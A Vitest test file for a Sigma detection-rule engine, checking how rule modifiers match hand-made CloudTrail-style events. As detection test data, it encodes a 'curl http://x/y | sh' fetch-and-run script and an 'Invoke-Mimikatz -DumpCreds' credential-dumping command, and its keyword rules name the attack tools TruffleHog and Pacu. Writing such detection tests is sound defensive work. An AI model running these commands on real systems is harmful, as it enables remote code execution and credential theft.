import { describe, expect, it } from 'vitest';
import { requiredLiteral } from '../../../processors/detections/regex-literal.ts';
import { matches, refusal, ruleWith } from './rule-text.ts';

describe('Sigma values and modifiers on hand-made events', () => {
  it('compares strings case-insensitively, numbers and booleans by value', () => {
    const set = ruleWith(`selection:\n  eventName: consolelogin\n  responseElements.ConsoleLogin: 'Success'\n  count: 3\n  flag: true\ncondition: selection`);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'SUCCESS' }, count: 3, flag: true })).toBe(true);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'SUCCESS' }, count: '3', flag: 'true' })).toBe(true);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'Failure' }, count: 3, flag: true })).toBe(false);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'Success' }, count: 4, flag: true })).toBe(false);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'Success' }, count: 3, flag: false })).toBe(false);
  });

  it('links a value list with OR, and with AND under |all', () => {
    const any = ruleWith(`selection:\n  eventName:\n    - StopLogging\n    - DeleteTrail\ncondition: selection`);
    expect(matches(any, { eventName: 'DeleteTrail' })).toBe(true);
    expect(matches(any, { eventName: 'UpdateTrail' })).toBe(false);
    const all = ruleWith(`selection:\n  userAgent|contains|all:\n    - aws-cli\n    - Linux\ncondition: selection`);
    expect(matches(all, { userAgent: 'aws-cli/2.15 Python/3.11 Linux/6.1' })).toBe(true);
    expect(matches(all, { userAgent: 'aws-cli/2.15 Python/3.11 Darwin/23' })).toBe(false);
  });

  it('matches * and ? wildcards, and their escaped forms literally', () => {
    const set = ruleWith(`selection:\n  userIdentity.arn: 'arn:aws:iam::*:user/adm?n'\ncondition: selection`);
    expect(matches(set, { userIdentity: { arn: 'arn:aws:iam::123456789012:user/admin' } })).toBe(true);
    expect(matches(set, { userIdentity: { arn: 'arn:aws:iam::123456789012:user/admiin' } })).toBe(false);
    const escaped = ruleWith(`selection:\n  note: 'a\\*b\\?c'\ncondition: selection`);
    expect(matches(escaped, { note: 'a*b?c' })).toBe(true);
    expect(matches(escaped, { note: 'axbyc' })).toBe(false);
    // two backslashes before a wildcard: a literal backslash, then the wildcard
    const slash = ruleWith(`selection:\n  path: 'C:\\\\*'\ncondition: selection`);
    expect(matches(slash, { path: 'C:\\Windows' })).toBe(true);
    expect(matches(slash, { path: 'C:Windows' })).toBe(false);
    // four backslashes are two literal ones
    const two = ruleWith(`selection:\n  path: 'C:\\\\\\\\*'\ncondition: selection`);
    expect(matches(two, { path: 'C:\\\\Windows' })).toBe(true);
    expect(matches(two, { path: 'C:\\Windows' })).toBe(false);
  });

  it('contains, startswith and endswith put wildcards around, before or after the value', () => {
    const c = ruleWith(`selection:\n  userAgent|contains: TruffleHog\ncondition: selection`);
    expect(matches(c, { userAgent: 'Go-http-client trufflehog/3' })).toBe(true);
    expect(matches(c, { userAgent: 'Go-http-client' })).toBe(false);
    const s = ruleWith(`selection:\n  requestParameters.gatewayId|startswith: 'igw-'\ncondition: selection`);
    expect(matches(s, { requestParameters: { gatewayId: 'IGW-0abc' } })).toBe(true);
    expect(matches(s, { requestParameters: { gatewayId: 'nat-0abc' } })).toBe(false);
    const e = ruleWith(`selection:\n  cidrIp|endswith: '/0'\ncondition: selection`);
    expect(matches(e, { cidrIp: '0.0.0.0/0' })).toBe(true);
    expect(matches(e, { cidrIp: '10.0.0.0/20' })).toBe(false);
  });

  it('re is case-sensitive unless |i, and takes |m and |s', () => {
    const re = ruleWith(`selection:\n  userIdentity.arn|re: '.+:assumed-role/aws:.+'\ncondition: selection`);
    expect(matches(re, { userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })).toBe(true);
    expect(matches(re, { userIdentity: { arn: 'arn:aws:sts::1:ASSUMED-ROLE/aws:ec2-instance/i-1' } })).toBe(false);
    const ci = ruleWith(`selection:\n  userIdentity.arn|re|i: '.+:assumed-role/aws:.+'\ncondition: selection`);
    expect(matches(ci, { userIdentity: { arn: 'arn:aws:sts::1:ASSUMED-ROLE/aws:ec2-instance/i-1' } })).toBe(true);
    const m = ruleWith(`selection:\n  text|re|m: '^second$'\ncondition: selection`);
    expect(matches(m, { text: 'first\nsecond\nthird' })).toBe(true);
    const s = ruleWith(`selection:\n  text|re|s: 'first.second'\ncondition: selection`);
    expect(matches(s, { text: 'first\nsecond' })).toBe(true);
    const noS = ruleWith(`selection:\n  text|re: 'first.second'\ncondition: selection`);
    expect(matches(noS, { text: 'first\nsecond' })).toBe(false);
  });

  it("re's substring pre-test takes only text every match contains", () => {
    expect(requiredLiteral('.+:assumed-role/aws:.+')).toBe(':assumed-role/aws:');
    expect(requiredLiteral('^arn:aws:iam::\\d+:root$')).toBe('arn:aws:iam::');
    expect(requiredLiteral('abc?def')).toBe('def');
    expect(requiredLiteral('abcd+e')).toBe('abcd');
    expect(requiredLiteral('a\\.bcd')).toBe('a.bcd');
    for (const none of ['foo|bar', 'x{234}', '(abcdef)?', '[abcdef]+', 'ab\\dcd']) expect(requiredLiteral(none), none).toBeUndefined();
    expect(requiredLiteral('(a[)]b)?xyz')).toBe('xyz');
    expect(requiredLiteral('a(b(c)d)?efgh')).toBe('efgh');
  });

  it('cidr tests IPv4 and IPv6 addresses against a range', () => {
    const v4 = ruleWith(`selection:\n  sourceIPAddress|cidr:\n    - 10.0.0.0/8\n    - 192.168.1.0/24\ncondition: selection`);
    expect(matches(v4, { sourceIPAddress: '10.20.30.40' })).toBe(true);
    expect(matches(v4, { sourceIPAddress: '192.168.1.255' })).toBe(true);
    expect(matches(v4, { sourceIPAddress: '192.168.2.1' })).toBe(false);
    expect(matches(v4, { sourceIPAddress: 'AWS Internal' })).toBe(false);
    const v6 = ruleWith(`selection:\n  sourceIPAddress|cidr: '2001:db8::/32'\ncondition: selection`);
    expect(matches(v6, { sourceIPAddress: '2001:db8:ffff::1' })).toBe(true);
    expect(matches(v6, { sourceIPAddress: '2001:db9::1' })).toBe(false);
    expect(matches(v6, { sourceIPAddress: '10.0.0.1' })).toBe(false);
    expect(refusal(ruleWith(`selection:\n  ip|cidr: 10.0.0.0/33\ncondition: selection`))).toMatch(/prefix length/);
  });

  it('exists tests presence, not value', () => {
    const yes = ruleWith(`selection:\n  errorCode|exists: true\ncondition: selection`);
    expect(matches(yes, { errorCode: null })).toBe(true);
    expect(matches(yes, { errorCode: 'AccessDenied' })).toBe(true);
    expect(matches(yes, { eventName: 'x' })).toBe(false);
    const no = ruleWith(`selection:\n  errorCode|exists: false\ncondition: selection`);
    expect(matches(no, { eventName: 'x' })).toBe(true);
    expect(matches(no, { errorCode: 'AccessDenied' })).toBe(false);
  });

  it('null matches an absent or null field; an empty string only the empty string', () => {
    const n = ruleWith(`selection:\n  errorCode: null\ncondition: selection`);
    expect(matches(n, {})).toBe(true);
    expect(matches(n, { errorCode: null })).toBe(true);
    expect(matches(n, { errorCode: '' })).toBe(false);
    const empty = ruleWith(`selection:\n  errorCode: ''\ncondition: selection`);
    expect(matches(empty, { errorCode: '' })).toBe(true);
    expect(matches(empty, {})).toBe(false);
    expect(matches(empty, { errorCode: 'x' })).toBe(false);
  });

  it('fieldref compares with another field of the same event', () => {
    const set = ruleWith(`selection:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: selection`);
    expect(matches(set, { userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
    expect(matches(set, { userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })).toBe(false);
    expect(matches(set, { userIdentity: { userName: 'alice' } })).toBe(false);
    const contains = ruleWith(`selection:\n  userIdentity.arn|fieldref|contains: responseElements.accessKey.userName\ncondition: selection`);
    expect(matches(contains, { userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, responseElements: { accessKey: { userName: 'alice' } } })).toBe(true);
    expect(matches(contains, { userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, responseElements: { accessKey: { userName: 'bob' } } })).toBe(false);
  });

  it('base64 and base64offset|contains find an encoded value', () => {
    // 'hello' base64-encoded is aGVsbG8=
    const b = ruleWith(`selection:\n  data|base64: hello\ncondition: selection`);
    expect(matches(b, { data: 'aGVsbG8=' })).toBe(true);
    expect(matches(b, { data: 'hello' })).toBe(false);
    const off = ruleWith(`selection:\n  userData|base64offset|contains: 'curl '\ncondition: selection`);
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      expect(matches(off, { userData: Buffer.from(`#!/bin/sh\n${prefix}curl http://x/y | sh`).toString('base64') })).toBe(true);
    }
    expect(matches(off, { userData: Buffer.from('#!/bin/sh\nwget http://x/y').toString('base64') })).toBe(false);
  });

  it('wide (utf16le) under base64offset|contains finds text encoded as UTF-16 then base64', () => {
    const set = ruleWith(`selection:\n  script|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: selection`);
    for (const prefix of ['', 'x', 'xy']) {
      expect(matches(set, { script: Buffer.from(`${prefix}IEX (Invoke-Mimikatz -DumpCreds)`, 'utf16le').toString('base64') })).toBe(true);
    }
    expect(matches(set, { script: Buffer.from('IEX (Invoke-Mimikatz -DumpCreds)', 'utf8').toString('base64') })).toBe(false);
    expect(refusal(ruleWith(`selection:\n  script|wide: x\ncondition: selection`))).toMatch(/only evaluated under base64/);
  });

  it('neq: the field is there and differs from every listed value', () => {
    const set = ruleWith(`selection:\n  eventName: ConsoleLogin\n  responseElements.ConsoleLogin|neq:\n    - Success\n    - Pending\ncondition: selection`);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'Failure' } })).toBe(true);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'success' } })).toBe(false);
    expect(matches(set, { eventName: 'ConsoleLogin', responseElements: { ConsoleLogin: 'Pending' } })).toBe(false);
    expect(matches(set, { eventName: 'ConsoleLogin' })).toBe(false);
  });

  it('lt, lte, gt and gte compare numbers, numeric strings included', () => {
    const gte = ruleWith(`selection:\n  severity|gte: 7\ncondition: selection`);
    expect(matches(gte, { severity: 7 })).toBe(true);
    expect(matches(gte, { severity: '8.5' })).toBe(true);
    expect(matches(gte, { severity: 6.9 })).toBe(false);
    expect(matches(gte, { severity: 'high' })).toBe(false);
    expect(matches(ruleWith(`selection:\n  n|gt: 7\ncondition: selection`), { n: 7 })).toBe(false);
    expect(matches(ruleWith(`selection:\n  n|lt: 7\ncondition: selection`), { n: 6 })).toBe(true);
    expect(matches(ruleWith(`selection:\n  n|lte: 7\ncondition: selection`), { n: 8 })).toBe(false);
  });

  it('cased matches case-sensitively', () => {
    const set = ruleWith(`selection:\n  eventName|cased: ConsoleLogin\ncondition: selection`);
    expect(matches(set, { eventName: 'ConsoleLogin' })).toBe(true);
    expect(matches(set, { eventName: 'consolelogin' })).toBe(false);
  });

  it('walks nested objects and arrays: a field matches if any element does', () => {
    const set = ruleWith(`selection:\n  requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\ncondition: selection`);
    const event = (cidrs: string[]) => ({
      requestParameters: { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } }, { ipRanges: { items: cidrs.map((cidrIp) => ({ cidrIp })) } }] } },
    });
    expect(matches(set, event(['192.168.0.0/16', '0.0.0.0/0']))).toBe(true);
    expect(matches(set, event(['192.168.0.0/16']))).toBe(false);
    // a key that holds a dot itself
    expect(matches(set, { requestParameters: { 'ipPermissions.items': [{ ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] } })).toBe(true);
  });

  it('keywords search every value of the event, OR-linked, AND-linked under |all', () => {
    const any = ruleWith(`keywords:\n  - trufflehog\n  - pacu\ncondition: keywords`);
    expect(matches(any, { userAgent: 'TruffleHog/3.1', eventName: 'GetCallerIdentity' })).toBe(true);
    expect(matches(any, { deep: { list: ['x', 'Pacu framework'] } })).toBe(true);
    expect(matches(any, { userAgent: 'aws-cli' })).toBe(false);
    const all = ruleWith(`keywords:\n  '|all':\n    - aws-cli\n    - Linux\ncondition: keywords`);
    expect(matches(all, { userAgent: 'aws-cli/2', platform: 'Linux' })).toBe(true);
    expect(matches(all, { userAgent: 'aws-cli/2', platform: 'Darwin' })).toBe(false);
  });

  it('a list of maps is OR-linked, the entries of one map AND-linked', () => {
    const set = ruleWith(`selection:\n  - eventSource: ssm.amazonaws.com\n    eventName: SendCommand\n  - eventName: StartSession\ncondition: selection`);
    expect(matches(set, { eventSource: 'ssm.amazonaws.com', eventName: 'SendCommand' })).toBe(true);
    expect(matches(set, { eventSource: 'ec2.amazonaws.com', eventName: 'SendCommand' })).toBe(false);
    expect(matches(set, { eventSource: 'anything', eventName: 'StartSession' })).toBe(true);
  });

  it('refuses unknown or misused modifiers, naming them', () => {
    expect(refusal(ruleWith(`selection:\n  CommandLine|windash: '-x'\ncondition: selection`))).toBe("search identifier 'selection': unknown modifier 'windash' in 'CommandLine|windash'");
    expect(refusal(ruleWith(`selection:\n  x|expand: '%Servers%'\ncondition: selection`))).toMatch(/unknown modifier 'expand'/);
    expect(refusal(ruleWith(`selection:\n  x|all: one\ncondition: selection`))).toMatch(/all needs a list/);
    expect(refusal(ruleWith(`selection:\n  x|re: '(unclosed'\ncondition: selection`))).toMatch(/invalid regular expression/);
    expect(refusal(ruleWith(`selection:\n  x|gte: seven\ncondition: selection`))).toMatch(/compares numbers/);
  });
});
